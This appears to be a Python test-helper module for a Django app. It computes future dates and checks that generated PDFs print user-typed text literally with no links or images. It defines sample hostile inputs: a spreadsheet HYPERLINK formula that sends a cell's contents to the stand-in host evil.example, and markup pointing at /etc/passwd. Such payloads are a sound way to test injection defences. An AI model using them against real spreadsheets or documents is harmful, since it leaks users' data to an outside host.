"""Small helpers for tests. No test may depend on the real date: dates that must lie ahead
of "today" are computed from it (``AFTERSALES_TEST_TODAY`` may move today)."""

from __future__ import annotations

from datetime import date, timedelta

from django.utils import timezone


def soon(days: int = 10) -> date:
    """A day ``days`` ahead of today in China, e.g. an order's promised delivery date."""
    return timezone.localdate() + timedelta(days=days)


# Text people may type into any field (a name, an address, a note). Excel must show it as
# text, never run it as a formula; a PDF must print it as typed: no image, no link, no error.
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
MARKUP_TEXTS = ('<img src="/etc/passwd"/>', '<a href="http://evil.example">x</a>', "A<B", "R&D")


def assert_pdf_prints_as_typed(data: bytes, *texts: str) -> None:
    """``data`` is a PDF with no link or image in it, and every one of ``texts`` is in it
    literally (read back with pdftotext; whitespace is ignored, as table cells wrap)."""
    import shutil
    import subprocess

    import pytest

    assert data.startswith(b"%PDF")
    for marker in (b"/Annots", b"/URI", b"/Subtype /Image"):
        assert marker not in data, marker
    if not shutil.which("pdftotext"):
        pytest.skip("pdftotext (poppler-utils) is not installed")
    done = subprocess.run(["pdftotext", "-", "-"], input=data, capture_output=True, check=True)
    printed = "".join(done.stdout.decode().split())
    for text in texts:
        assert "".join(text.split()) in printed, text
